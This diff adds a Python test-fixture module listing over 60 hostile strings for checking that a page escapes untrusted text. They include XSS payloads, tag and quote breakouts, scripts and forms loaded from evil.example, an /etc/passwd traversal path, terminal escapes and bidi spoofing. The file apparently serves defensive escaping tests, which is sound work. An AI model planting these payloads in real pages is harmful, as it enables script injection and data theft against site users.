@@ -1,0 +1,76 @@
+"""Texts that would do something to a page which did not treat them as text. Where one runs it sets `__pwned`."""
+
+RUN = "__pwned=1"
+_LINE = "a" * 1_000_000
+
+HOSTILE = {
+    # Elements that run something
+    "script": f"<script>{RUN}</script>",
+    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
+    "script from elsewhere": "<script src=//evil.example/x.js></script>",
+    "script from its own data": f"<script src='data:text/javascript,{RUN}'></script>",
+    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    "script unclosed": f"<script>{RUN}//",
+    "script of a module": f"<script type=module>{RUN}</script>",
+    "image": f"<img src=x onerror={RUN}>",
+    "image with slashes": f"<img/src=x/onerror={RUN}>",
+    "image unclosed": f"<img src=x onerror={RUN} ",
+    "svg": f"<svg onload={RUN}>",
+    "svg script": f"<svg><script>{RUN}</script></svg>",
+    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    "svg link": f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
+    "svg use": "<svg><use href='//evil.example/x.svg#x'/></svg>",
+    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
+    "video": f"<video><source onerror={RUN}></video>",
+    "details": f"<details open ontoggle={RUN}>x</details>",
+    "field": f"<input autofocus onfocus={RUN}>",
+    "body": f"<body onload={RUN}>",
+    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    "object": f"<object data='javascript:{RUN}'></object>",
+    "embed": "<embed src=//evil.example/x.swf>",
+    "own element": f"<x-y tabindex=1 onfocus={RUN} autofocus>x</x-y>",
+    "htmx": "<div hx-get=//evil.example/x hx-trigger=load>x</div>",
+    "htmx script": f"<div hx-on::load='{RUN}' hx-trigger='every 1s'>x</div>",
+    # Elements that change where things are or go
+    "base": "<base href=//evil.example/>",
+    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+    "style": "<style>*{display:none}@import '//evil.example/x.css'</style>",
+    "stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
+    "preload": "<link rel=preconnect href=//evil.example>",
+    "form": "<form action=//evil.example/><input name=q><button>Send</button></form>",
+    "link": f"<a href='javascript:{RUN}' data-row rel=next>x</a>",
+    "cover": "<div style='position:fixed;inset:0;background:red'>x</div>",
+    "dialog": "<dialog open id=help>x</dialog>",
+    # Ways out of where a text stands
+    "out of a title": f"</title><script>{RUN}</script>",
+    "out of preformatted text": f"</pre></code></details></main><script>{RUN}</script>",
+    "out of a textarea": f"</textarea></select></option><script>{RUN}</script>",
+    "out of a comment": f"--><script>{RUN}</script><!--",
+    "a comment": "<!-- <!doctype html> <![CDATA[",
+    "out of double quotes": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
+    "out of single quotes": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
+    "out of no quotes": f"x onmouseover={RUN} autofocus onfocus={RUN} ",
+    "out of backquotes": f"`><script>{RUN}</script>${{{RUN}}}",
+    "out of a script": f"</script><script>{RUN}</script>",
+    "entities": "&lt;script&gt;&#60;img src=x&#x3e;&amp;&quot;&apos;&bogus;",
+    "doubly escaped": f"%3Cscript%3E{RUN}%3C/script%3E\\u003cscript\\u003e",
+    "template": f"{{{{ 7*7 }}}}{{% raw %}}{{# x #}}${{{RUN}}}<%= 7*7 %>",
+    # Addresses
+    "javascript": f"javascript:{RUN}//https://openmic",
+    "data": f"data:text/html,<script>{RUN}</script>",
+    "path": "../../../etc/passwd?x=1&y=2#top",
+    # Characters
+    "ansi": "\x1b[2J\x1b[31mred\x1b[0m\x07 \x9b31m",
+    "terminal link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "overwriting": "safe\rdangerous\x08\x08\x7f",
+    "bidi": "\u202egnp.exe\u202c \u2066isolated \u200f\u061c",
+    "unseen": "a\u200bb\ufeffc\u00add\u2060e\U000e0041f",
+    "marks": "Z" + "\u0300\u0320\u0334" * 60 + "algo",
+    "wide": "\ufdfd" * 40 + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
+    # Lengths
+    "one long word": "W" * 5_000,
+    "many lines": "\n" * 500 + "end\t" * 300,
+    "a line of 1 MB": _LINE,
+    "many elements": "<b>" * 20_000,
+}
+assert len(HOSTILE) >= 60
